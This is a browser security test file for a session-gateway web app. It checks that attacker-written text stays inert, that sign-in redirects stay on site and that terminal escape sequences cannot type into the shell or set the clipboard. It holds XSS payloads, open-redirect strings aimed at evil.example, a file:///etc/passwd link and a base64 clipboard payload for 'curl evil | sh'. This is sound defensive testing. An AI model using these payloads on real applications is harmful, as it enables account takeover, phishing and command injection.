import assert from 'node:assert/strict'
import { after, afterEach, before, describe, it } from 'node:test'
import type { Page } from 'playwright-core'
import type { Session } from '../../server/protocol/session-api.ts'
import { TestBrowser } from '../support/browser.ts'
import { BrowserGateway } from '../support/browser-gateway.ts'
import { BrowserTerminal } from '../support/browser-terminal.ts'
import type { TestContainer } from '../support/containers.ts'
import { eventually } from '../support/eventually.ts'

/** Every way in that a text has: an element, a handler, a script, an address, a template, the end of an attribute. */
const markup = `"'><img src=x onerror="alert(1)"><svg onload=alert(2)><script>alert(3)</script><a id=injected href=javascript:alert(4)>{{7*7}}`
/** Short enough for a ticket, with an end that tells where it was written. */
const planted = (where: string) => `<img src=x onerror=alert(1)><b id=injected>${where}`
// Who comes from a careless issuer: both their subject and their name are text of their own choice.
const mallory = planted('mallory')
const lea = planted('lea')

const policy = JSON.stringify({
  rules: [
    {
      name: planted('rule'),
      who: { groups: ['engineers'] },
      actions: ['open'],
      effect: 'require-approval',
      approval: { groups: ['leads'] },
      breakGlass: { groups: ['engineers'] },
    },
    { name: 'lists', who: { everyone: true }, actions: ['list'], effect: 'allow' },
    {
      name: 'house',
      who: { subjects: ['jane', lea] },
      actions: ['open', 'watch', 'terminate', 'read-recording', 'read-audit', 'approve'],
      effect: 'allow',
    },
  ],
})

let browser: TestBrowser
let gateway: BrowserGateway
let target: TestContainer
const sessions: Record<'waiting' | 'denied' | 'unreviewed' | 'reviewed' | 'live', string> = {
  waiting: '',
  denied: '',
  unreviewed: '',
  reviewed: '',
  live: '',
}

before(async () => {
  gateway = await BrowserGateway.start({ policy })
  gateway.gateway.groups[mallory] = ['engineers', planted('group')]
  gateway.gateway.groups[lea] = ['leads']
  target = await gateway.target({ labels: { 'com.example.team': markup, [planted('label')]: 'as a key' } })
  browser = await TestBrowser.start()
  await plant()
})
afterEach(() => browser.closeVisits())
after(async () => {
  await browser.close()
  await gateway.stop()
})

/** Leaves a text of an attacker's in every place that the API takes one for. */
async function plant(): Promise<void> {
  const { gateway: api } = gateway
  const ask = async (where: string, more: object = {}) => {
    const wish = {
      target: `local/${target.name}`,
      reason: planted(`reason ${where}`),
      ticket: planted(`ticket ${where}`),
      command: ['sh', '-c', `printf '%s\\n' '${planted('command')}'; sleep 600`],
      ...more,
    }
    return (await api.api<Session>('POST', '/sessions', wish, mallory)).id
  }
  const end = async (id: string) => {
    await eventually(async () => (await api.api<Session>('GET', `/sessions/${id}`)).state === 'running')
    await api.api('DELETE', `/sessions/${id}`, { reason: planted('termination') })
  }
  sessions.denied = await ask('denied')
  const denial = { decision: 'deny', reason: planted('denial') }
  await api.api('POST', `/sessions/${sessions.denied}/decision`, denial, lea)
  sessions.unreviewed = await ask('unreviewed', { breakGlass: true })
  await end(sessions.unreviewed)
  sessions.reviewed = await ask('reviewed', { breakGlass: true })
  await end(sessions.reviewed)
  const review = { verdict: 'unjustified', reason: planted('review') }
  await api.api('POST', `/sessions/${sessions.reviewed}/review`, review, lea)
  sessions.waiting = await ask('waiting')
}

/** A dialog, an error and a refused script fail the test by themselves: see TestBrowser. */
async function assertHarmless(page: Page, where: string): Promise<void> {
  for (const made of [
    '#injected',
    'img[src="x"]',
    'svg[onload]',
    'script:not([src])',
    'iframe',
    'object',
    'embed',
  ])
    assert.equal(await page.locator(made).count(), 0, `${made} was made of text on ${where}`)
  const addresses = await page
    .locator('[href], [src], [action], [formaction]')
    .evaluateAll((elements) =>
      elements.flatMap((element) =>
        ['href', 'src', 'action', 'formaction'].map(
          (name) =>
            (element as unknown as { getAttribute(name: string): string | null }).getAttribute(name) ?? '',
        ),
      ),
    )
  for (const address of addresses) assert.doesNotMatch(address, /^\s*(javascript|vbscript|data:text)/i, where)
}

describe('what an attacker has written', () => {
  it('stays text on every page and in every dialog, for those whom it is meant to reach', async () => {
    const page = await browser.visit({
      storageState: await gateway.signedIn(lea),
      allow: [/status of 40[0349]/],
    })
    const main = page.getByRole('main')
    const visit = async (path: string, ...texts: string[]) => {
      await page.goto(`${gateway.url}${path}`)
      for (const text of texts) await main.getByText(text).filter({ visible: true }).first().waitFor()
      await assertHarmless(page, path)
    }
    await visit('/', target.name)
    await visit(`/?q=${encodeURIComponent('<img')}`, target.name)
    await visit(
      '/approvals',
      planted('reason waiting'),
      planted('ticket waiting'),
      planted('reason unreviewed'),
    )
    await visit('/sessions', planted('reason denied'), mallory)
    await visit(`/sessions/${sessions.waiting}`, planted('reason waiting'), planted('command'))
    await visit(`/sessions/${sessions.denied}`, planted('denial'))
    await visit(`/sessions/${sessions.reviewed}`, planted('review'), planted('termination'))
    await visit(`/sessions/${sessions.unreviewed}`, planted('reason unreviewed'))
    await visit('/audit', mallory)
    await visit(`/audit?q=${encodeURIComponent(planted('denial'))}`)
    await visit(`/sessions/${sessions.unreviewed}/replay`)
    await page.getByRole('button', { name: /^Copy link to/ }).waitFor()
    await assertHarmless(page, 'the replay')

    // What is said in answer to an approver.
    await visit('/approvals', planted('reason waiting'))
    await page.getByRole('button', { name: 'Deny' }).first().click()
    await assertHarmless(page, 'the denial')
    await page.keyboard.press('ControlOrMeta+k')
    await page.keyboard.type('<img')
    await assertHarmless(page, 'the palette')
  })

  it('stays text for who wrote it: their name, their groups, why not, and each address', async () => {
    const page = await browser.visit({
      storageState: await gateway.signedIn(mallory),
      allow: [/status of 40[0349]/],
    })
    const text = encodeURIComponent(markup)
    for (const path of [
      '/',
      `/debug/local/${target.name}?reason=${text}&ticket=${text}&run=${text}&toolbox=${text}&profile=${text}&container=${text}`,
      `/policy?target=local/${target.name}&user=${text}&groups=${text}&reason=${text}&action=${text}`,
      `/sessions?q=${text}&user=${text}&state=${text}`,
      `/audit?q=${text}`,
      `/sessions/${text}`,
      `/sessions/${text}/terminal`,
      `/sessions/${text}/replay?t=${text}`,
      `/debug/local/${text}`,
      `/debug/${text}`,
      `/${text}`,
    ]) {
      await page.goto(`${gateway.url}${path}`)
      await page.getByRole('heading').first().waitFor()
      await page.waitForLoadState('networkidle')
      await assertHarmless(page, path)
    }
    await page.goto(gateway.url)
    await page.getByText(target.name).first().waitFor()
    await page
      .getByRole('button', { name: /mallory/ })
      .first()
      .click()
    await assertHarmless(page, 'the menu of the user')
  })

  it('stays text in a terminal: its title, its output, its viewers and its details', async () => {
    const page = await browser.visit({ storageState: await gateway.signedIn(lea) })
    await page.goto(`${gateway.url}/debug/local/${target.name}?reason=${encodeURIComponent(markup)}`)
    await page.getByRole('button', { name: 'Start session' }).click()
    const terminal = new BrowserTerminal(page)
    await terminal.prompt()
    await terminal.enter(`printf '\\033]0;%s\\007%s\\n' '${planted('title')}' '${planted('output')}'`)
    await eventually(async () => (await page.title()).startsWith('<img'))
    const watcher = await gateway.gateway.connect(terminal.sessionId, { who: 'jane', role: 'observer' })
    await page.getByRole('button', { name: 'Details' }).click()
    await page.getByRole('complementary', { name: 'Session details' }).getByText(markup).first().waitFor()
    await assertHarmless(page, 'the terminal')
    watcher.close()
  })
})

describe('a page that leads on', () => {
  it('stays on this site, whatever its address says', async () => {
    const page = await browser.visit({ storageState: await gateway.signedIn(), allow: [/status of 40[0-9]/] })
    const asked: string[] = []
    page.on('request', (request) => asked.push(request.url()))
    for (const next of [
      '//evil.example',
      '/\\evil.example',
      '\\\\evil.example',
      '/%2F/evil.example',
      'https://evil.example',
      'javascript:alert(1)',
      ' javascript:alert(1)',
      'java\nscript:alert(1)',
      '/\t/evil.example',
      '/\n/evil.example',
      '/.//evil.example',
      '/a/..//evil.example',
      '/\u2215/evil.example',
      'data:text/html,<script>alert(1)</script>',
      '@evil.example',
    ]) {
      await page.goto(`${gateway.url}/signin?next=${encodeURIComponent(next)}`)
      await page.waitForURL((url) => url.pathname !== '/signin')
      assert.equal(new URL(page.url()).origin, gateway.url, JSON.stringify(next))
      await assertHarmless(page, next)
    }
    assert.deepEqual(
      asked.filter((url) => !url.startsWith(`${gateway.url}/`) && !url.startsWith('data:image')),
      [],
    )
  })
})

describe('what a program in a session prints', () => {
  async function open(): Promise<{ page: Page; terminal: BrowserTerminal }> {
    const page = await browser.visit({
      storageState: await gateway.signedIn(),
      permissions: ['clipboard-read', 'clipboard-write'],
    })
    await page.goto(`${gateway.url}/debug/local/${target.name}`)
    await page.getByRole('button', { name: 'Start session' }).click()
    const terminal = new BrowserTerminal(page)
    await terminal.prompt()
    return { page, terminal }
  }

  it('types nothing into the shell: no title, no clipboard, no text of its own comes back as an answer', async () => {
    const { page, terminal } = await open()
    await page.evaluate('navigator.clipboard.writeText("of-the-clipboard")')
    const queries = [
      '\\033]0;touch owned\\007',
      '\\033]2;touch owned\\007',
      '\\033[21t',
      '\\033[20t',
      '\\033[18t',
      '\\005',
      '\\033]52;c;?\\007',
      '\\033]52;p;?\\007',
      '\\033P$qtouch owned\\033\\\\',
      '\\033P+q746f756368\\033\\\\',
      '\\033]50;?\\007',
      '\\033]7;?\\007',
      '\\033]1337;ReportVariable=bmFtZQ==\\007',
      '\\033]8;;touch owned\\007x\\033]8;;\\007',
      '\\033[?1004h',
      '\\033Z',
      // The one that is answered, in a fixed form: it shows that answers would be seen.
      '\\033[c',
    ]
    const line = `stty raw -echo; printf '${queries.join('')}'; got=$(timeout 2 dd bs=1 2>/dev/null | cat -v); stty sane; echo; echo "[$got]"`
    const shown = await terminal.run(line)
    const answer = /\[(.*)\]/s.exec(shown)?.[1] ?? ''
    assert.match(answer, /\^\[\[\?1;2c/)
    for (const smuggled of ['touch', 'owned', 'of-the', 'b2YtdGhl', '746f756368', '\n', '^M', '^J'])
      assert.ok(!answer.includes(smuggled), `${smuggled} in ${answer}`)
    assert.equal(await page.evaluate('navigator.clipboard.readText()'), 'of-the-clipboard')
  })

  it('puts nothing on the clipboard unasked, and opens no address but of the web', async () => {
    const { page, terminal } = await open()
    await page.evaluate('navigator.clipboard.writeText("of-the-user")')
    await terminal.enter(`printf '\\033]52;c;Y3VybCBldmlsIHwgc2g=\\007asked\\n'`)
    await terminal.until(/^asked/m)
    assert.equal(await page.evaluate('navigator.clipboard.readText()'), 'of-the-user')
    await page.keyboard.press('Escape')
    const opened: string[] = []
    page.context().on('page', (other) => opened.push(other.url()))
    for (const address of [
      'javascript:alert(1)',
      'data:text/html,x',
      'file:///etc/passwd',
      'vbscript:x',
      'JaVaScRiPt:alert(1)',
      '//evil.example',
    ]) {
      await terminal.enter(`clear; printf '\\033]8;;%s\\007LINK\\033]8;;\\007\\n' '${address}'`)
      await terminal.until(/^LINK/m)
      const rows = page.locator('.xterm-rows > div').first()
      await rows.hover({ position: { x: 12, y: 8 }, force: true })
      await rows.click({ position: { x: 12, y: 8 }, modifiers: ['ControlOrMeta'], force: true })
    }
    assert.equal(await terminal.run('echo still here'), 'still here')
    assert.deepEqual(opened, [])
    assert.ok(page.url().startsWith(`${gateway.url}/sessions/`))
    await assertHarmless(page, 'the terminal')
  })
})
